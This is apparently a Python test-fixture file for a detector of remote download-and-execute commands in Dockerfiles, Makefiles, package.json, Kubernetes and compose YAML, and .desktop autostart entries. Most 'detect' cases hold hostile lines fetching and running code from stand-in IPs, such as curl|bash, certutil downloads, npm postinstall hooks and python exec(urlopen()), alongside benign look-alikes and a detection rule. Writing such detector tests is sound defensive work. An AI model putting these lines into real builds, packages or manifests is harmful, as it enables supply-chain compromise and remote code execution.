# Build / config carriers: dockerfile, makefile, package-json, yaml, desktop, text.
import json

from common import C, ps_enc

# ================================================================ dockerfile
C("h2-docker-add-url-checksum-less-01", "Containerfile ADD <url> of a binary straight into PATH", "dockerfile",
  "/workspace/Containerfile", "detect", r"""FROM registry.access.redhat.com/ubi9/ubi-minimal
ADD http://198.51.100.5/dist/kubectl-plugin /usr/local/bin/kubectl-plugin
RUN chmod 0755 /usr/local/bin/kubectl-plugin
USER 1001
""")

C("h2-docker-run-wget-pipe-sh-02", "Dockerfile RUN wget -O- | sh", "dockerfile",
  "/usr/src/app/Dockerfile", "detect", r"""FROM node:20-bookworm
WORKDIR /usr/src/app
RUN wget -qO- https://get.pnpm.example/install.sh | ENV="$HOME/.shrc" SHELL="$(which sh)" sh -
COPY package.json pnpm-lock.yaml ./
RUN pnpm install --frozen-lockfile
COPY . .
CMD ["node", "server.js"]
""")

C("h2-docker-arg-url-curl-03", "Dockerfile ARG holds the URL used by RUN curl", "dockerfile",
  "/build/Dockerfile.runtime", "detect", r"""FROM debian:12-slim
ARG AGENT_URL=http://203.0.113.12/agent/agent-linux-amd64
ARG AGENT_SHA=unused
RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates && \
    curl -fsSLo /usr/local/bin/agent "${AGENT_URL}" && \
    chmod +x /usr/local/bin/agent && \
    rm -rf /var/lib/apt/lists/*
ENTRYPOINT ["/usr/local/bin/agent"]
""")

C("h2-docker-run-exec-form-curl-04", "Dockerfile RUN exec form [\"curl\", ...]", "dockerfile",
  "/ci/images/builder/Dockerfile", "detect", r"""FROM alpine:3.20
RUN ["apk", "add", "--no-cache", "curl"]
RUN ["curl", "-fsSL", "-o", "/usr/local/bin/jq", "http://198.51.100.26/bin/jq-linux64"]
RUN ["chmod", "+x", "/usr/local/bin/jq"]
""")

C("h2-docker-heredoc-run-05", "Dockerfile RUN here-doc (BuildKit) with a download", "dockerfile",
  "/ci/images/tools/Dockerfile", "detect", r"""# syntax=docker/dockerfile:1.7
FROM ubuntu:24.04
RUN <<EOF
set -eux
apt-get update
apt-get install -y wget
wget -q http://203.0.113.40/tools/helm.tgz -O /tmp/helm.tgz
tar -xzf /tmp/helm.tgz -C /usr/local/bin --strip-components=1
EOF
""")

C("h2-docker-windows-certutil-06", "Windows Dockerfile RUN certutil -urlcache", "dockerfile",
  "/ci/images/win-agent/Dockerfile", "detect", r"""# escape=`
FROM mcr.microsoft.com/windows/nanoserver:ltsc2022
USER ContainerAdministrator
RUN certutil.exe -urlcache -split -f http://198.51.100.90/agent.exe C:\agent\agent.exe
ENTRYPOINT ["C:\\agent\\agent.exe"]
""")

C("h2-docker-healthcheck-remote-07", "HEALTHCHECK that fetches and runs a remote script", "dockerfile",
  "/opt/images/proxy/Dockerfile", "detect", r"""FROM haproxy:2.9
COPY haproxy.cfg /usr/local/etc/haproxy/haproxy.cfg
HEALTHCHECK --interval=5m CMD curl -s http://203.0.113.7/hc.sh | sh || exit 1
""")

C("h2-docker-onbuild-wget-08", "ONBUILD RUN wget of a remote binary", "dockerfile",
  "/opt/images/base/Dockerfile", "detect", r"""FROM python:3.12-alpine
ONBUILD RUN wget -q -O /usr/local/bin/entry http://198.51.100.55/entry && chmod +x /usr/local/bin/entry
ONBUILD COPY . /app
""")

C("h2-docker-silent-copy-from-01", "look-alike: multi-stage COPY --from and curl only in a comment/label", "dockerfile",
  "/opt/images/web/Dockerfile", "silent", r"""FROM node:20 AS build
WORKDIR /src
COPY . .
RUN npm ci && npm run build

FROM nginx:1.27-alpine
LABEL maintainer="ops@example.com" \
      org.opencontainers.image.documentation="https://docs.example.com/web"
# Debug: docker exec web curl -s http://localhost/health
COPY --from=build /src/dist /usr/share/nginx/html
""")

C("h2-docker-silent-pip-apt-02", "look-alike: pip/apt installs and local ADD", "dockerfile",
  "/opt/images/worker/Dockerfile", "silent", r"""FROM python:3.11-slim
RUN apt-get update && apt-get install -y --no-install-recommends wget curl git \
    && rm -rf /var/lib/apt/lists/*
COPY requirements.txt /tmp/
RUN pip install --no-cache-dir -r /tmp/requirements.txt
ADD vendor.tar.gz /opt/vendor/
CMD ["python", "-m", "worker"]
""")

C("h2-docker-silent-healthcheck-wget-03", "look-alike: HEALTHCHECK wget --spider on localhost", "dockerfile",
  "/opt/images/grafana/Dockerfile", "silent", r"""FROM grafana/grafana:10.4.0
HEALTHCHECK --interval=30s --timeout=5s CMD wget --no-verbose --tries=1 --spider http://localhost:3000/api/health || exit 1
""")

# ================================================================ makefile
C("h2-make-curl-bin-01", "Makefile target downloading a tool binary", "makefile",
  "/src/linters/Makefile", "detect", "GOLANGCI_URL := http://198.51.100.3/golangci-lint-linux-amd64\n"
  "BIN := $(CURDIR)/bin\n\n"
  ".PHONY: tools\n"
  "tools:\n"
  "\tmkdir -p $(BIN)\n"
  "\tcurl -sSfL $(GOLANGCI_URL) -o $(BIN)/golangci-lint\n"
  "\tchmod +x $(BIN)/golangci-lint\n")

C("h2-make-wget-pipe-sh-02", "Makefile recipe: wget -O - | sh with @ prefix", "makefile",
  "/src/service/GNUmakefile", "detect", ".PHONY: bootstrap\n"
  "bootstrap:\n"
  "\t@wget -O - http://203.0.113.84/bootstrap.sh | sh\n")

C("h2-make-scp-deploy-03", "Makefile deploy target pushing artefact with scp", "makefile",
  "/src/firmware/Makefile", "detect", "TARGET_HOST ?= deploy@198.51.100.60\n\n"
  "deploy: build/fw.bin\n"
  "\tscp build/fw.bin $(TARGET_HOST):/srv/firmware/\n")

C("h2-make-powershell-iwr-04", "Makefile (Windows toolchain) with powershell iwr", "makefile",
  "/src/winbuild/Makefile", "detect", "fetch-nuget:\n"
  "\tpowershell -NoProfile -Command \"iwr http://203.0.113.61/nuget.exe -OutFile tools/nuget.exe\"\n")

C("h2-make-silent-echo-help-01", "look-alike: help target echoing curl instructions", "makefile",
  "/src/docs/Makefile", "silent", ".PHONY: help\n"
  "help:\n"
  "\t@echo 'Targets:'\n"
  "\t@echo '  html    build the docs'\n"
  "\t@echo 'To install the CLI first run: curl -fsSL https://get.example.com | sh'\n"
  "html:\n"
  "\tsphinx-build -b html . _build/html\n")

C("h2-make-silent-local-test-02", "look-alike: test target hitting localhost", "makefile",
  "/src/api/Makefile", "silent", "run:\n"
  "\t./bin/api &\n"
  "test-smoke:\n"
  "\tcurl -fsS http://localhost:8080/health\n"
  "\tcurl -fsS http://127.0.0.1:8080/version\n")

# ================================================================ package-json
def pkg(name, scripts, extra=None):
    d = {"name": name, "version": "1.0.3", "description": "", "main": "index.js", "scripts": scripts}
    if extra:
        d.update(extra)
    return json.dumps(d, indent=2) + "\n"


C("h2-pkgjson-postinstall-wget-bin-01", "npm supply-chain: postinstall wget of a binary", "package-json",
  "/usr/lib/node_modules/colors-extra/package.json", "detect",
  pkg("colors-extra", {"postinstall": "wget -q http://203.0.113.97/x -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x"}))

C("h2-pkgjson-install-node-e-https-02", "npm supply-chain: install script node -e https.get", "package-json",
  "/app/node_modules/left-padder/package.json", "detect",
  pkg("left-padder", {"install": "node -e \"require('https').get('https://203.0.113.98/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\""}))

C("h2-pkgjson-preinstall-curl-bash-03", "npm lifecycle preinstall curl | bash", "package-json",
  "/srv/storefront/package.json", "detect",
  pkg("web", {"preinstall": "curl -s https://cdn.example.net/setup.sh | bash", "start": "node server.js"},
      {"private": True}))

C("h2-pkgjson-postinstall-win-certutil-04", "npm lifecycle postinstall with certutil (Windows)", "package-json",
  "/app/node_modules/win-notify-helper/package.json", "detect",
  pkg("win-notify-helper", {"postinstall": "certutil -urlcache -f http://198.51.100.91/n.exe %TEMP%\\n.exe && %TEMP%\\n.exe"}))

C("h2-pkgjson-silent-build-scripts-01", "look-alike: ordinary build/test scripts", "package-json",
  "/srv/admin/package.json", "silent",
  pkg("admin", {"build": "tsc -p .", "test": "jest", "lint": "eslint .", "prepare": "husky install"},
      {"dependencies": {"axios": "^1.6.0", "node-fetch": "^3.3.2"}}))

C("h2-pkgjson-silent-wait-on-02", "look-alike: wait-on / curl localhost in e2e script", "package-json",
  "/srv/e2e/package.json", "silent",
  pkg("e2e", {"e2e": "wait-on http://localhost:3000 && cypress run",
              "ping": "curl -s http://127.0.0.1:3000/api/ping"}))

# ================================================================ yaml
C("h2-yaml-k8s-pod-args-wget-01", "Kubernetes Pod command/args with sh -c wget | sh", "yaml",
  "/manifests/debug-pod.yaml", "detect", r"""apiVersion: v1
kind: Pod
metadata:
  name: debug
spec:
  containers:
    - name: debug
      image: busybox:1.36
      command: ["/bin/sh"]
      args: ["-c", "wget -qO- http://203.0.113.14/d.sh | sh; sleep 3600"]
""")

C("h2-yaml-k8s-daemonset-block-02", "DaemonSet with block-scalar shell script downloading a binary", "yaml",
  "/manifests/node-agent-ds.yaml", "detect", r"""apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: node-agent
  namespace: kube-system
spec:
  selector:
    matchLabels: {app: node-agent}
  template:
    metadata:
      labels: {app: node-agent}
    spec:
      hostPID: true
      containers:
        - name: agent
          image: alpine:3.20
          securityContext: {privileged: true}
          command:
            - /bin/sh
            - -c
            - |
              apk add --no-cache curl
              curl -fsSL -o /host/usr/local/bin/na http://198.51.100.33/na
              chmod +x /host/usr/local/bin/na
              chroot /host /usr/local/bin/na
          volumeMounts:
            - {name: host, mountPath: /host}
      volumes:
        - name: host
          hostPath: {path: /}
""")

C("h2-yaml-compose-command-string-03", "compose command: string with curl download", "yaml",
  "/srv/stack/docker-compose.yml", "detect", r"""services:
  worker:
    image: python:3.12-slim
    command: sh -c "curl -s http://203.0.113.52/job.py -o /tmp/job.py && python /tmp/job.py"
    restart: unless-stopped
  redis:
    image: redis:7
""")

C("h2-yaml-k8s-job-python-04", "Kubernetes Job running python -c urlopen", "yaml",
  "/manifests/jobs/migrate.yaml", "detect", r"""apiVersion: batch/v1
kind: Job
metadata:
  name: migrate
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
        - name: migrate
          image: python:3.12
          command:
            - python3
            - -c
            - "import urllib.request;exec(urllib.request.urlopen('http://198.51.100.54/m.py').read())"
""")

C("h2-yaml-compose-entrypoint-wget-05", "compose entrypoint list with wget", "yaml",
  "/srv/stack/compose.override.yaml", "detect", r"""services:
  app:
    entrypoint:
      - /bin/sh
      - -c
      - >-
        wget -q -O /usr/local/bin/app-sidecar http://203.0.113.70/sidecar &&
        chmod +x /usr/local/bin/app-sidecar &&
        exec /usr/local/bin/app-sidecar
""")

C("h2-yaml-k8s-lifecycle-poststart-06", "Kubernetes lifecycle postStart exec with curl", "yaml",
  "/manifests/web-deploy.yaml", "detect", r"""apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  replicas: 2
  selector:
    matchLabels: {app: web}
  template:
    metadata:
      labels: {app: web}
    spec:
      containers:
        - name: web
          image: nginx:1.27
          lifecycle:
            postStart:
              exec:
                command: ["sh", "-c", "curl -sk https://198.51.100.12/w.sh -o /tmp/w.sh && sh /tmp/w.sh"]
""")

C("h2-yaml-silent-probes-localhost-01", "look-alike: liveness/readiness exec probes on localhost", "yaml",
  "/manifests/api-deploy.yaml", "silent", r"""apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
spec:
  selector:
    matchLabels: {app: api}
  template:
    metadata:
      labels: {app: api}
    spec:
      containers:
        - name: api
          image: registry.example.com/api:2.1
          livenessProbe:
            exec:
              command: ["curl", "-fsS", "http://localhost:8080/healthz"]
          readinessProbe:
            exec:
              command: ["wget", "-q", "--spider", "http://127.0.0.1:8080/ready"]
""")

C("h2-yaml-silent-ci-docs-02", "look-alike: config with URLs as plain values (no command)", "yaml",
  "/etc/app/config.yaml", "silent", r"""server:
  listen: 0.0.0.0:8080
  public_url: https://app.example.com
updates:
  # the app checks this feed itself; nothing is executed
  feed_url: https://updates.example.com/feed.json
  downloader: curl
  enabled: false
""")

# ================================================================ desktop
C("h2-desktop-autostart-sh-c-wget-01", "XDG autostart entry running sh -c wget + exec", "desktop",
  "/etc/xdg/autostart/update-notifier-extra.desktop", "detect", r"""[Desktop Entry]
Type=Application
Name=Update Notifier Extra
Exec=sh -c "wget -q -O /tmp/.un http://203.0.113.23/un && chmod +x /tmp/.un && /tmp/.un"
NoDisplay=true
X-GNOME-Autostart-enabled=true
""")

C("h2-desktop-app-bash-curl-pipe-02", ".desktop launcher with bash -c curl | bash", "desktop",
  "/usr/share/applications/quick-setup.desktop", "detect", r"""[Desktop Entry]
Version=1.0
Type=Application
Name=Quick Setup
Exec=bash -c 'curl -fsSL https://setup.example.org/quick.sh | bash'
Icon=system-run
Terminal=true
Categories=System;
""")

C("h2-desktop-user-autostart-python-03", "user autostart entry with python3 -c download", "desktop",
  "/home/user/.config/autostart/sync.desktop", "detect", r"""[Desktop Entry]
Type=Application
Name=Sync
Exec=python3 -c "import urllib.request as r;r.urlretrieve('http://198.51.100.57/s.py','/tmp/s.py')"
Hidden=false
""")

C("h2-desktop-silent-browser-url-01", "look-alike: launcher opening a web page in the browser", "desktop",
  "/usr/share/applications/app-docs.desktop", "silent", r"""[Desktop Entry]
Type=Application
Name=App Documentation
Exec=xdg-open https://docs.example.com/app
Icon=help-browser
Categories=Documentation;
""")

# ================================================================ text (non-executable documentation)
C("h2-text-silent-readme-install-01", "look-alike: README with curl|sh install instructions", "text",
  "/opt/app/README.md", "silent", r"""# App

## Install

```sh
curl -fsSL https://get.example.com/app.sh | sh
# or
wget -qO- https://get.example.com/app.sh | sh
```

On Windows:

```powershell
iwr https://get.example.com/app.ps1 -UseBasicParsing | iex
```
""")

C("h2-text-silent-changelog-02", "look-alike: changelog mentioning certutil/bitsadmin", "text",
  "/opt/app/CHANGELOG.md", "silent", r"""## 2.3.0
- Windows installer no longer calls `certutil -urlcache` or `bitsadmin /transfer`; it uses the bundled MSI.
- Linux installer dropped the `curl | bash` path.
""")

C("h2-text-silent-sigma-like-rule-03", "look-alike: detection rule YAML listing download keywords", "text",
  "/etc/falco/rules.d/downloads.yaml", "silent", r"""- rule: Download tool in container
  desc: a download tool (curl, wget, certutil, bitsadmin) was spawned in a container
  condition: spawned_process and container and proc.name in (curl, wget, certutil.exe, bitsadmin.exe)
  output: "download tool launched (command=%proc.cmdline)"
  priority: NOTICE
""")
